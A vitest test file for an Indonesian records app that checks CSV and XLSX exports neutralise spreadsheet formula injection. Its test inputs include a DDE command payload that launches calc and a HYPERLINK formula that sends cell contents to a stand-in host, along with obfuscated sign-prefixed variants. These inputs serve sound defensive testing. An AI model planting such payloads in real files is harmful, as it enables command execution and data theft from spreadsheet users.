import { beforeAll, describe, expect, test } from "vitest";
import { buat, validasi } from "@/lib/catatan/commands";
import { unduhan } from "@/lib/catatan/unduh";
import { terbitkan } from "@/lib/terbitan/commands";
import { bacaSaring } from "@/lib/terbitan/filter";
import { unduhanPublik } from "@/lib/terbitan/unduh";
import { useDatabase } from "../support/database";
import { entry } from "../support/entries";
import { type Cast, key, makeCast } from "../support/journey";
import { readCsv, readXlsx } from "../support/spreadsheet";

/** What a spreadsheet would run, or take for something else than text. */
const TEXTS = [
  "=1+1",
  "+62 811 000",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  '=HYPERLINK("http://contoh.id?"&A1;"klik")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " \t\n@A1",
  "＝1+1",
  "Rapat;=1+1",
  "Rapat; @A1, lalu pulang",
  "Rapat\t=1+1",
  "Baris satu\n=1+1\n- butir\n\n+2",
  'Kata "dalam kutip", koma; titik koma',
  "'=sudah berpetik",
  "_x003D_1+1 dan _x0041_",
  "<f>1+1</f> & ]]> &#61;1",
  "12/2024",
  "00123",
];
const sign = /^[\s]*[=+\-@＝＋－＠]/;
/** The documented guard: an apostrophe before a sign where a cell or a line begins; white space before the text goes. */
const guarded = (text: string) => text.trimStart().replace(/(^|[;\t\r\n]\s*)(?=[=+\-@＝＋－＠])/g, "$1'");

const db = useDatabase();
let cast: Cast;
beforeAll(async () => {
  cast = await makeCast(db);
  for (const text of TEXTS) {
    const m = entry("pencegahan");
    // by the command, as an import would: a form takes the white space away before
    Object.assign(m.induk, { judul: text, nomor: text });
    Object.assign(m.rincian, { sasaran: text, tempat: text, uraian: text });
    const made = await buat(cast.operator, "pencegahan", m, { kunci: key() });
    const at = await validasi(cast.verifikator, made.id, made.versi, key());
    await terbitkan(cast.ppid, at.id, at.versi, text, key());
  }
}, 120_000);

const bytes = async (answer: Response) => new Uint8Array(await answer.arrayBuffer());
const inside = async (form: "csv" | "xlsx") =>
  bytes(await unduhan(cast.operator, { jenis: "pencegahan", dimensi: {} }, form));
const csv = async (file: Promise<Uint8Array>) => new TextDecoder().decode(await file);
const column = (rows: string[][], label: string) => {
  const at = rows[0]?.indexOf(label) ?? -1;
  expect(at, label).toBeGreaterThanOrEqual(0);
  return rows
    .slice(1)
    .map((row) => row[at] ?? "")
    .sort();
};
const expected = (as: (text: string) => string) => TEXTS.map(as).sort();

const publik = async () => bytes(await unduhanPublik(bacaSaring({ jenis: "pencegahan" }).saring));
const OWN = ["Nama kegiatan", "Nomor kegiatan", "Sasaran", "Tempat"];

describe.each([
  ["dalam", () => inside("csv"), [...OWN, "Uraian kegiatan"]],
  ["publik", publik, ["Nomor kegiatan", "Sasaran", "Tempat", "Ringkasan"]],
] as const)("CSV %s", (_, file, labels) => {
  test("every text comes back, guarded where it would be run, and nothing else is touched", async () => {
    const rows = readCsv(await csv(file()));
    expect(rows).toHaveLength(TEXTS.length + 1);
    expect(new Set(rows.map((row) => row.length)).size).toBe(1);
    for (const label of labels) expect(column(rows, label), label).toEqual(expected(guarded));
  });

  test.each([",", ";", "\t"] as const)("no cell is a formula for a program that parts cells by %j", async (comma) => {
    const cells = readCsv(await csv(file()), comma).flat();
    expect(cells.length).toBeGreaterThan(TEXTS.length);
    expect(cells.filter((cell) => sign.test(cell))).toEqual([]);
  });
});

describe("XLSX", () => {
  test("no cell is a formula, and every text comes back exactly as it is stored", async () => {
    const rows = readXlsx(await inside("xlsx"));
    expect(rows).toHaveLength(TEXTS.length + 1);
    expect(rows.flat().filter((c) => c.formula)).toEqual([]);
    expect(rows.flat().filter((c) => c.type !== "s" && !/^\d*$/.test(c.text))).toEqual([]);
    const texts = rows.map((row) => row.map((c) => c.text));
    for (const label of [...OWN, "Uraian kegiatan"]) expect(column(texts, label), label).toEqual(expected((t) => t));
  });
});

test("the readers see what there is to see", () => {
  expect(readCsv('a,"b ""c""\n=1",\r\n;x')).toEqual([["a", 'b "c"\n=1', ""], [";x"]]);
  expect(readCsv('a,"b;=1"\r\n', ";")).toEqual([['a,"b', '=1"']]);
});
